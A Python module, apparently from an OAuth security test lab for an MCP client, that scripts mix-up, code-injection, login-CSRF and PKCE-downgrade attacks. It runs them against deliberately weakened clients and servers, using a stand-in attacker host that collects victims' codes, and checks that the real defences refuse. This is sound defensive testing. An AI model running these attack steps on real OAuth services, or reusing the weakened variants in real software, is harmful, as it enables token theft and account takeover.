"""Attacks on the way through the browser: rows 3, 4, 5 and 6."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlencode

import httpx

from ...client.github import GitHubClient
from ...client.handler import OAuthHandler
from ...client.provider import AuthProvider
from ...oauth.errors import McpOAuthError
from ...oauth.pkce import METHOD, PKCE
from ...trace.messages import CLIENT
from ..http_lab import HttpLab
from ..lab import Lab
from ..mock_github import Autopilot
from .cast import (
    ATTACKER,
    ATTACKER_NAME,
    EVIL,
    Browser,
    ByHand,
    Site,
    add_attacker,
    call,
    code_of,
    open_site,
    query_of,
    randomness,
    whose_data,
)
from .outcome import Plot, Refused, attack
from .weakened import IgnoresIssuer, OptionalPkce, SilentOnPkce, TrustsAnyServer, WithoutPkce, WithoutState, provider_of

# -- 3 -------------------------------------------------------------------------------------------------------------


@attack(
    3,
    "Mix-up",
    needs=HttpLab,
    check="the iss of the answer is compared with the issuer that the person was sent to, before the code leaves",
    reference="RFC 9207 section 2.4",
)
async def mix_up(lab: HttpLab, plot: Plot) -> None:
    """A client that speaks with two servers takes one's code to the other."""
    # What the client registers at the attacker's server, the attacker registers at the honest one.
    agent = await ByHand(lab).register(agent_uri := "http://127.0.0.1/callback", client_name="Notebook")
    evil = open_site(lab, _evil_world(lab, agent.client_id, agent_uri))
    plot.step(f"The victim's client connects to {EVIL}/mcp, whose authorization server is the attacker's too.")
    plot.step("That one registers the client at the honest server, and passes on the id that it gets.")
    victim = await Browser(lab).sign_in()
    auth = lab.new_auth(paste=victim.person.authorize, token_bytes=randomness("mix-up"))
    kind = AuthProvider if plot.defence else IgnoresIssuer
    plot.step("Its authorization endpoint sends the browser on to the honest one. The victim sees what they expect.")
    try:
        await call(lab, provider_of(kind, auth, f"{EVIL}/mcp"), f"{EVIL}/mcp")
    except McpOAuthError:
        if plot.defence:
            raise
    plot.step("The client gets the honest server's code, and takes it to the server where it believes to be.")
    told = {name: evil.told[name] for name in ("code", "code_verifier")}
    tokens = await agent.exchange(**told)
    plot.step("The attacker exchanges it at the honest server.")
    plot.got("code", told["code"])
    plot.got("code verifier", told["code_verifier"])
    plot.got("access token", tokens["access_token"])
    plot.learned("data of", await whose_data(lab, tokens["access_token"]))


def _evil_world(lab: HttpLab, client_id: str, redirect_uri: str) -> Site:
    document = f"{EVIL}/.well-known/oauth-protected-resource/mcp"

    def send_on(request: httpx.Request) -> httpx.Response:
        parameters = {**query_of(str(request.url)), "client_id": client_id, "resource": lab.url}
        honest = f"{lab.authorization_server.public_url}/authorize?{urlencode(parameters)}"
        return httpx.Response(303, headers={"location": honest})

    challenge = {"www-authenticate": f'Bearer scope="read:user", resource_metadata="{document}"'}
    return Site(
        {
            "/mcp": lambda request: httpx.Response(401, headers=challenge),
            **evil_documents(),
            "/register": lambda request: httpx.Response(
                201, json={"client_id": client_id, "redirect_uris": [redirect_uri]}
            ),
            "/authorize": send_on,
            "/token": lambda request: httpx.Response(400, json={"error": "invalid_grant"}),
        }
    )


def evil_documents(**changes: Any) -> dict[str, dict[str, Any]]:
    """Return the metadata of the attacker's MCP server and authorization server, by path."""
    return {
        "/.well-known/oauth-protected-resource/mcp": {"resource": f"{EVIL}/mcp", "authorization_servers": [EVIL]},
        "/.well-known/oauth-authorization-server": {
            "issuer": EVIL,
            "authorization_endpoint": f"{EVIL}/authorize",
            "token_endpoint": f"{EVIL}/token",
            "registration_endpoint": f"{EVIL}/register",
            "code_challenge_methods_supported": [METHOD],
            **changes,
        },
    }


# -- 4, 5 ----------------------------------------------------------------------------------------------------------


@attack(
    4,
    "Code injection",
    needs=Lab,
    check="PKCE binds a code to the session that asked for it: another session has another verifier",
    reference="RFC 9700 section 4.5.3",
)
async def code_injection(lab: Lab, plot: Plot) -> None:
    """The victim's code, pasted into the attacker's session with the same client."""
    kind = OAuthHandler if plot.defence else WithoutPkce
    add_attacker(lab)
    victims = _session(lab, kind, "code injection, victim").get_authorization_url()
    stolen = code_of(await lab.browser.authorize(victims.url))
    plot.step("The victim authorizes. The attacker reads the code in the address, before the client has used it.")
    session = _session(lab, kind, "code injection, attacker")
    request = session.get_authorization_url()
    plot.step("The attacker begins a flow of their own with the same client, and leaves the browser there.")
    callback = f"{session.settings.oauth_redirect_uri}?" + urlencode({"code": stolen, "state": request.state})
    plot.step("They open the client's callback with their own state, which is right, and the victim's code.")
    await session.complete_authorization(callback)
    plot.got("code", stolen)
    plot.learned("a session as", await _who(lab, session))


@attack(
    5,
    "Login CSRF",
    needs=Lab,
    check="state belongs to one flow of this browser, and works once",
    reference="RFC 6749 section 10.12",
)
async def login_csrf(lab: Lab, plot: Plot) -> None:
    """The attacker's code, in the victim's flow: the victim works in the attacker's account."""
    kind = OAuthHandler if plot.defence else WithoutState
    add_attacker(lab)
    own = _session(lab, kind, "login csrf, attacker").get_authorization_url()
    attackers = Autopilot(lab.trace.http(lab.github.transport(), sender=ATTACKER), user=ATTACKER_NAME)
    trap = await attackers.authorize(own.url)
    plot.step(
        f"The attacker authorizes with their own account, {ATTACKER_NAME}, and keeps the address at the end unused."
    )
    session = _session(lab, kind, "login csrf, victim")
    session.get_authorization_url()
    plot.step("The victim has begun to sign in. A page of the attacker's makes their browser open that address.")
    code_of(trap)
    await session.complete_authorization(trap)
    plot.learned("the victim works as", await _who(lab, session))


def _session(lab: Lab, kind: type[OAuthHandler], whose: str) -> OAuthHandler:
    """Make the client's side of one browser's session."""
    return kind(settings=lab.settings, client=lab.http_client(CLIENT), clock=lab.clock, token_bytes=randomness(whose))


async def _who(lab: Lab, session: OAuthHandler) -> str:
    github = GitHubClient(
        session, base_url=lab.settings.api_base_url, timeout=5, client=lab.http_client(CLIENT), clock=lab.clock
    )
    return (await github.user()).login


# -- 6 -------------------------------------------------------------------------------------------------------------


@attack(
    6,
    "PKCE downgrade",
    needs=HttpLab,
    check="no code without a challenge by S256, no token without its verifier, no client where S256 is not announced",
    reference="RFC 9700 section 4.8.2; MCP 2026-07-28, Authorization",
)
async def pkce_downgrade(lab: HttpLab, plot: Plot) -> None:
    """PKCE for those who want it protects nobody: the attacker does not want it."""
    plot.step("The attacker's program sees the addresses that the victim's browser opens, and the code at the end.")
    victim = await Browser(lab).sign_in()
    client = ByHand(lab, CLIENT)
    stopped: list[McpOAuthError] = []
    with lab.network.instead(lambda app: app if plot.defence else OptionalPkce(app)):
        ways = _downgrades(client)
        for what, (changes, verifier) in ways.items():
            plot.step(f"It tries it with the {what}.")
            with _noted(plot, stopped):
                code = code_of(await victim.person.authorize(client.url(**changes)))
                tokens = await client.exchange(code, code_verifier=verifier)
                plot.got(f"token, {what}", tokens["access_token"])
        plot.step("It takes PKCE out of the server's metadata, and waits for a client that goes on.")
        with _noted(plot, stopped), lab.network.instead(SilentOnPkce):
            code = await _code_of_a_client(lab, victim, AuthProvider if plot.defence else TrustsAnyServer)
            tokens = await client.exchange(code, code_verifier=None)
            plot.got("token, PKCE not announced", tokens["access_token"])
    if len(stopped) == len(ways) + 1:
        raise stopped[0]
    plot.learned("data of", await whose_data(lab, tokens["access_token"]))


def _downgrades(client: ByHand) -> dict[str, tuple[dict[str, str | None], str | None]]:
    """Return, by name, what is changed in the request, and the verifier that is sent."""
    without: dict[str, str | None] = {"code_challenge": None, "code_challenge_method": None}
    made_up = PKCE.generate(randomness("PKCE downgrade")).code_verifier
    return {
        "challenge taken out of the request": (without, None),
        "challenge taken out, and a verifier made up": (without, made_up),
        # The challenge is in the address that the attacker sees.
        "method plain, and the challenge as verifier": ({"code_challenge_method": "plain"}, client.pkce.code_challenge),
        "verifier left out of the exchange": ({}, None),
    }


@contextmanager
def _noted(plot: Plot, stopped: list[McpOAuthError]) -> Iterator[None]:
    try:
        yield
    except McpOAuthError as error:
        plot.step(f"Refused: {error.message}")
        stopped.append(error)


async def _code_of_a_client(lab: HttpLab, victim: Browser, kind: type[AuthProvider]) -> str:
    """Have the victim's client ask for a code, which does not arrive there."""
    codes: list[str] = []

    async def intercepted(url: str) -> str:
        codes.append(code_of(await victim.person.authorize(url)))
        raise Refused("The answer does not arrive.")

    auth = lab.new_auth(client=lab.registered_client, paste=intercepted, token_bytes=randomness("PKCE, victim"))
    try:
        await call(lab, provider_of(kind, auth, lab.url))
    except McpOAuthError:
        if not codes:
            raise
    return codes[0]
